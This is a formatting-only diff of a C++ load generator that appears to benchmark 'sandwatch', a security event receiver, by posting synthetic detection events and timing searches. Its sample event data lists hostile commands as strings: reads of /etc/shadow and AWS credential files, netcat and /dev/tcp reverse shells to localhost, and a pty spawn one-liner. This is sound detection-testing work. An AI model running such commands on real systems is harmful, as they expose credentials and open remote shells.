@@ -18,13 +18,12 @@
 #include <cstdio>
 #include <filesystem>
 #include <fstream>
+#include <nlohmann/json.hpp>
 #include <random>
 #include <sstream>
 #include <string>
 #include <thread>
 #include <vector>
-
-#include <nlohmann/json.hpp>
 
 #include "sandwatch/core/clock.h"
 #include "sandwatch/core/ids.h"
@@ -36,13 +35,23 @@ namespace {
 using Clock = std::chrono::steady_clock;
 using sandwatch::FormatRfc3339;
 
-const char* kRules[] = {"unexpected_shell", "shadow_file_access", "aws_credential_discovery",
-                        "package_manager_execution", "post_start_binary_execution",
-                        "nc_execution", "reverse_shell", "suspicious_outbound_connection",
+const char* kRules[] = {"unexpected_shell",
+                        "shadow_file_access",
+                        "aws_credential_discovery",
+                        "package_manager_execution",
+                        "post_start_binary_execution",
+                        "nc_execution",
+                        "reverse_shell",
+                        "suspicious_outbound_connection",
                         "suspicious_process_chain"};
-const char* kCmds[] = {"cat /etc/shadow", "bash -i", "cat /root/.aws/credentials",
-                       "apt-get install -y ncat", "/tmp/payload --connect", "nc -e /bin/sh 127.0.0.1 4444",
-                       "bash -c exec 3<>/dev/tcp/127.0.0.1/4444", "curl http://127.0.0.1:8081/x",
+const char* kCmds[] = {"cat /etc/shadow",
+                       "bash -i",
+                       "cat /root/.aws/credentials",
+                       "apt-get install -y ncat",
+                       "/tmp/payload --connect",
+                       "nc -e /bin/sh 127.0.0.1 4444",
+                       "bash -c exec 3<>/dev/tcp/127.0.0.1/4444",
+                       "curl http://127.0.0.1:8081/x",
                        "python3 -c import pty;pty.spawn('/bin/sh')"};
 
 struct Options {
@@ -87,9 +96,9 @@ std::string EventJson(std::mt19937_64& rng, int64_t now_ns, int64_t index, int64
                       uint64_t seq, int sensor) {
   int r = static_cast<int>(rng() % 9);
   constexpr int64_t kDay = 24LL * 3600 * 1'000'000'000;
-  int64_t t = now_ns - kDay + static_cast<int64_t>(static_cast<double>(kDay) *
-                                                    static_cast<double>(index) /
-                                                    static_cast<double>(total)) -
+  int64_t t = now_ns - kDay +
+              static_cast<int64_t>(static_cast<double>(kDay) * static_cast<double>(index) /
+                                   static_cast<double>(total)) -
               static_cast<int64_t>(rng() % 5'000'000'000ULL);
   std::string pod = "pod-" + std::to_string(rng() % 200);
   std::string s;
@@ -146,7 +155,8 @@ int main(int argc, char** argv) {
   app.add_option("--receiver", o.receiver, "sandwatch-receiver binary")->capture_default_str();
   app.add_option("--events", o.events, "events to ingest")->capture_default_str();
   app.add_option("--batch", o.batch, "events per POST")->capture_default_str();
-  app.add_option("--clients", o.clients, "concurrent keep-alive HTTP clients")->capture_default_str();
+  app.add_option("--clients", o.clients, "concurrent keep-alive HTTP clients")
+      ->capture_default_str();
   app.add_option("--queries", o.queries, "queries per search kind")->capture_default_str();
   app.add_flag("--no-fts", o.no_fts, "start the receiver with --no-fts (LIKE text filter)");
   app.add_option("--db", o.db, "database file (default: a fresh temporary file)");
@@ -154,12 +164,14 @@ int main(int argc, char** argv) {
   app.add_option("--receiver-arg", o.receiver_args, "extra flag for the receiver (repeatable)");
   CLI11_PARSE(app, argc, argv);
 
-  std::string dir = (std::filesystem::temp_directory_path() / ("sw-loadgen-" + std::to_string(getpid()))).string();
+  std::string dir =
+      (std::filesystem::temp_directory_path() / ("sw-loadgen-" + std::to_string(getpid())))
+          .string();
   std::filesystem::create_directories(dir);
   if (o.db.empty()) o.db = dir + "/events.db";
   std::string ready = dir + "/ready";
-  std::vector<std::string> args = {o.receiver, "--listen", "127.0.0.1:0", "--db", o.db,
-                                   "--ready-file", ready, "--log-level", "warn"};
+  std::vector<std::string> args = {o.receiver,     "--listen", "127.0.0.1:0", "--db", o.db,
+                                   "--ready-file", ready,      "--log-level", "warn"};
   for (const auto& extra : o.receiver_args) args.push_back(extra);
   if (o.no_fts) args.push_back("--no-fts");
   std::vector<char*> argvv;
@@ -250,9 +262,10 @@ int main(int argc, char** argv) {
   // 2. rule + 1 h window, newest first, 100 per page.
   std::mt19937_64 rng(42);
   auto rule_time = RunQueries(c, o.queries, [&](int) {
-    int64_t from = now_ns - static_cast<int64_t>(rng() % (23ULL * 3600)) * 1'000'000'000 - 3600'000'000'000;
-    return std::string("/api/events?rule=") + kRules[rng() % 9] + "&since=" +
-           FormatRfc3339(from) + "&until=" + FormatRfc3339(from + 3600'000'000'000) + "&limit=100";
+    int64_t from =
+        now_ns - static_cast<int64_t>(rng() % (23ULL * 3600)) * 1'000'000'000 - 3600'000'000'000;
+    return std::string("/api/events?rule=") + kRules[rng() % 9] + "&since=" + FormatRfc3339(from) +
+           "&until=" + FormatRfc3339(from + 3600'000'000'000) + "&limit=100";
   });
   auto rule_15m = RunQueries(c, o.queries, [&](int) {
     return std::string("/api/events?rule=") + kRules[rng() % 9] + "&since=15m&limit=100";
@@ -285,10 +298,12 @@ int main(int argc, char** argv) {
   double rate = static_cast<double>(stored) / ingest_s;
   std::printf("\n| measure | value |\n|---|---|\n");
   std::printf("| text search mode | %s |\n", o.no_fts ? "scan (--no-fts)" : "FTS5 word index");
-  std::printf("| events ingested (batches of %d, %d clients) | %lld stored, %lld failed, %lld in store |\n",
-              o.batch, o.clients, static_cast<long long>(stored.load()),
-              static_cast<long long>(failed.load()), static_cast<long long>(count));
-  std::printf("| sustained ingestion (durable, synchronous=FULL) | %.0f events/s (%.1f s) |\n", rate, ingest_s);
+  std::printf(
+      "| events ingested (batches of %d, %d clients) | %lld stored, %lld failed, %lld in store |\n",
+      o.batch, o.clients, static_cast<long long>(stored.load()),
+      static_cast<long long>(failed.load()), static_cast<long long>(count));
+  std::printf("| sustained ingestion (durable, synchronous=FULL) | %.0f events/s (%.1f s) |\n",
+              rate, ingest_s);
   std::printf("| receiver CPU during ingestion | %.1f s (%.0f us per event) |\n", ingest_cpu_s,
               ingest_cpu_s * 1e6 / static_cast<double>(std::max<int64_t>(1, stored.load())));
   std::printf("| text index catch-up after the last 202 | %.1f s |\n", catch_up_s);
@@ -303,10 +318,15 @@ int main(int argc, char** argv) {
   std::printf("| receiver RSS: after ingest / peak sampled / VmHWM | %.0f / %.0f / %.0f MiB |\n",
               static_cast<double>(rss_after_ingest) / 1024, static_cast<double>(peak_rss_kb) / 1024,
               static_cast<double>(hwm) / 1024);
-  std::printf("| database size (file + WAL) | %.0f MiB |\n", static_cast<double>(db_bytes) / 1048576);
-  nlohmann::json j{{"fts", !o.no_fts}, {"events", stored.load()}, {"ingest_events_per_s", rate},
-                   {"rule_time_p95_ms", rule_time.Pct(0.95)}, {"text_p95_ms", text.Pct(0.95)},
-                   {"text_rule_p95_ms", text_rule.Pct(0.95)}, {"rss_hwm_mib", static_cast<double>(hwm) / 1024},
+  std::printf("| database size (file + WAL) | %.0f MiB |\n",
+              static_cast<double>(db_bytes) / 1048576);
+  nlohmann::json j{{"fts", !o.no_fts},
+                   {"events", stored.load()},
+                   {"ingest_events_per_s", rate},
+                   {"rule_time_p95_ms", rule_time.Pct(0.95)},
+                   {"text_p95_ms", text.Pct(0.95)},
+                   {"text_rule_p95_ms", text_rule.Pct(0.95)},
+                   {"rss_hwm_mib", static_cast<double>(hwm) / 1024},
                    {"db_mib", static_cast<double>(db_bytes) / 1048576}};
   std::printf("\n%s\n", j.dump().c_str());
   return failed > 0 ? 1 : 0;
